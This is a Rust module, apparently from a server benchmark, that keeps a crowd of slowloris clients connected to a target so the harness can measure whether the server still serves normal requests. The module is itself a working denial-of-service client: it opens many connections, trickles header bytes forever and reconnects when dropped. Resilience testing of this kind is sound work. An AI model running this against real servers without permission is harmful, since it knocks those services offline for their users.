//! The slow clients of the slowloris scenario: hundreds of connections that each send a request
//! line and a Host header, then trickle further header lines one byte at a time, a few hundred
//! milliseconds apart, and never finish the head.
//!
//! A server that gives every connection a thread or worker of its own until the head is in
//! runs out of them; one that waits for heads in a poller, or caps the time a head may take,
//! keeps serving. The figure is what a normal client beside them gets (it is loaded by the
//! regular engine); this module only keeps the crowd going, on one thread with its own epoll,
//! and counts what the server did to it. A slow client the server closes (a 408 after its head
//! timeout, a reset) reconnects after a short pause, as the attack tool does.

use crate::sys::{self, Poller};
use common::client::{encode_unfinished_head, RequestSpec};
use serde::{Deserialize, Serialize};
use std::io::{self, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::os::fd::AsRawFd;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

/// The header line trickled over and over: it never holds the empty line that ends a head.
const TRICKLE: &[u8] = b"X-Slow: x\r\n";
/// Pause before a slow client the server dropped connects again.
const RECONNECT: Duration = Duration::from_millis(100);

/// What the crowd did and what the server did to it.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct SlowStats {
    /// Slow clients kept going.
    pub clients: u64,
    /// Milliseconds between two bytes of one client.
    pub interval_ms: u64,
    /// Connections established (reconnections included).
    pub connects: u64,
    /// Connects that failed.
    pub connect_failures: u64,
    /// Bytes trickled after the request lines.
    pub bytes_trickled: u64,
    /// Connections the server ended (closed, reset, or answered).
    pub server_closes: u64,
    /// Of those, the ones it answered first (e.g. 408 Request Timeout).
    pub answered: u64,
    /// The most slow clients connected at once.
    pub connected_peak: u64,
    /// Slow clients connected when the crowd stopped.
    pub connected_at_end: u64,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Phase {
    Idle,
    Backoff(Instant),
    Connecting,
    /// Connected; the next byte goes at `due`.
    Trickling {
        due: Instant,
    },
}

struct Client {
    stream: Option<TcpStream>,
    phase: Phase,
    /// Position in [`TRICKLE`].
    pos: usize,
}

/// A running crowd of slow clients; [`Slowloris::stop`] ends it.
pub struct Slowloris {
    stop: Arc<AtomicBool>,
    connected: Arc<AtomicU64>,
    handle: JoinHandle<io::Result<SlowStats>>,
}

impl Slowloris {
    /// Starts `clients` slow clients against `addr`, each sending one byte every `interval`.
    pub fn start(
        addr: SocketAddr,
        authority: &str,
        path: &str,
        clients: usize,
        interval: Duration,
    ) -> Slowloris {
        let stop = Arc::new(AtomicBool::new(false));
        let connected = Arc::new(AtomicU64::new(0));
        let mut head = Vec::new();
        let encoded = encode_unfinished_head(&RequestSpec::new("GET", path, authority), &mut head)
            .map_err(|e| io::Error::new(io::ErrorKind::InvalidInput, e));
        let (flag, count) = (Arc::clone(&stop), Arc::clone(&connected));
        let handle = std::thread::spawn(move || {
            encoded?;
            Crowd::new(addr, head, clients, interval, count)?.run(&flag)
        });
        Slowloris {
            stop,
            connected,
            handle,
        }
    }

    /// Slow clients connected now.
    pub fn connected(&self) -> u64 {
        self.connected.load(Ordering::Relaxed)
    }

    /// Waits until every client is connected, or `limit` has passed.
    pub fn wait_connected(&self, clients: u64, limit: Duration) {
        let until = Instant::now() + limit;
        while self.connected() < clients && Instant::now() < until && !self.handle.is_finished() {
            std::thread::sleep(Duration::from_millis(10));
        }
    }

    /// Stops the crowd, closing its connections, and returns its figures.
    pub fn stop(self) -> Result<SlowStats, String> {
        self.stop.store(true, Ordering::Relaxed);
        match self.handle.join() {
            Ok(Ok(stats)) => Ok(stats),
            Ok(Err(e)) => Err(format!("slow clients: {e}")),
            Err(_) => Err("the slow-client thread panicked".to_string()),
        }
    }
}

struct Crowd {
    addr: SocketAddr,
    head: Vec<u8>,
    interval: Duration,
    poller: Poller,
    clients: Vec<Client>,
    stats: SlowStats,
    connected: Arc<AtomicU64>,
    now_connected: u64,
}

impl Crowd {
    fn new(
        addr: SocketAddr,
        head: Vec<u8>,
        clients: usize,
        interval: Duration,
        connected: Arc<AtomicU64>,
    ) -> io::Result<Crowd> {
        Ok(Crowd {
            addr,
            head,
            interval,
            poller: Poller::new()?,
            clients: (0..clients)
                .map(|_| Client {
                    stream: None,
                    phase: Phase::Idle,
                    pos: 0,
                })
                .collect(),
            stats: SlowStats {
                clients: clients as u64,
                interval_ms: interval.as_millis() as u64,
                ..SlowStats::default()
            },
            connected,
            now_connected: 0,
        })
    }

    fn run(mut self, stop: &AtomicBool) -> io::Result<SlowStats> {
        let mut events = Vec::with_capacity(1024);
        let mut buf = [0u8; 4096];
        for i in 0..self.clients.len() {
            self.connect(i);
        }
        while !stop.load(Ordering::Relaxed) {
            self.poller.wait(&mut events, Duration::from_millis(10))?;
            for event in &events {
                let (i, flags) = (event.u64 as usize, event.events);
                self.on_event(i, flags, &mut buf);
            }
            let now = Instant::now();
            for i in 0..self.clients.len() {
                match self.clients[i].phase {
                    Phase::Trickling { due } if now >= due => self.trickle(i, due),
                    Phase::Backoff(until) if now >= until => self.connect(i),
                    _ => {}
                }
            }
        }
        self.stats.connected_at_end = self.now_connected;
        Ok(self.stats)
    }

    fn connect(&mut self, i: usize) {
        let outcome = sys::connect(&self.addr).and_then(|stream| {
            self.poller
                .add(stream.as_raw_fd(), i as u64)
                .map(|_| stream)
        });
        let client = &mut self.clients[i];
        match outcome {
            Ok(stream) => {
                client.stream = Some(stream);
                client.phase = Phase::Connecting;
            }
            Err(_) => {
                self.stats.connect_failures += 1;
                client.phase = Phase::Backoff(Instant::now() + RECONNECT);
            }
        }
    }

    fn on_event(&mut self, i: usize, flags: u32, buf: &mut [u8]) {
        let Some(client) = self.clients.get(i) else {
            return;
        };
        match client.phase {
            Phase::Connecting if flags & sys::FAILED != 0 => {
                self.stats.connect_failures += 1;
                self.drop_client(i, false);
            }
            Phase::Connecting if flags & sys::WRITABLE != 0 => {
                // The request line and Host go at once, as a browser would send them; only
                // the rest of the head crawls.
                let sent = client.stream.as_ref().map(|s| (&*s).write(&self.head));
                match sent {
                    Some(Ok(n)) if n == self.head.len() => {
                        self.stats.connects += 1;
                        self.now_connected += 1;
                        self.stats.connected_peak =
                            self.stats.connected_peak.max(self.now_connected);
                        self.connected.store(self.now_connected, Ordering::Relaxed);
                        // Spread the clients over the interval, so the bytes arrive evenly.
                        let offset = self.interval.mul_f64(i as f64 / self.clients.len() as f64);
                        self.clients[i].phase = Phase::Trickling {
                            due: Instant::now() + offset,
                        };
                        self.clients[i].pos = 0;
                    }
                    _ => self.drop_client(i, false),
                }
            }
            Phase::Trickling { .. } if flags & sys::READABLE != 0 => {
                let answered = match client.stream.as_ref().map(|s| (&*s).read(buf)) {
                    Some(Ok(n)) if n > 0 => true,
                    Some(Err(e)) if e.kind() == io::ErrorKind::WouldBlock => return,
                    _ => false,
                };
                self.stats.server_closes += 1;
                self.stats.answered += u64::from(answered);
                self.drop_client(i, true);
            }
            _ => {}
        }
    }

    /// Sends client `i`'s next byte, due at `due`.
    fn trickle(&mut self, i: usize, due: Instant) {
        let client = &mut self.clients[i];
        let Some(stream) = client.stream.as_ref() else {
            return;
        };
        match (&*stream).write(&TRICKLE[client.pos..client.pos + 1]) {
            Ok(1) => {
                client.pos = (client.pos + 1) % TRICKLE.len();
                self.stats.bytes_trickled += 1;
            }
            // A full send buffer: the server stopped reading; try again next time.
            Err(e) if e.kind() == io::ErrorKind::WouldBlock => {}
            _ => {
                self.stats.server_closes += 1;
                return self.drop_client(i, true);
            }
        }
        // Keep the cadence even when the loop woke late.
        let next = (due + self.interval).max(Instant::now());
        self.clients[i].phase = Phase::Trickling { due: next };
    }

    fn drop_client(&mut self, i: usize, was_connected: bool) {
        let client = &mut self.clients[i];
        client.stream = None;
        client.phase = Phase::Backoff(Instant::now() + RECONNECT);
        if was_connected {
            self.now_connected = self.now_connected.saturating_sub(1);
            self.connected.store(self.now_connected, Ordering::Relaxed);
        }
    }
}
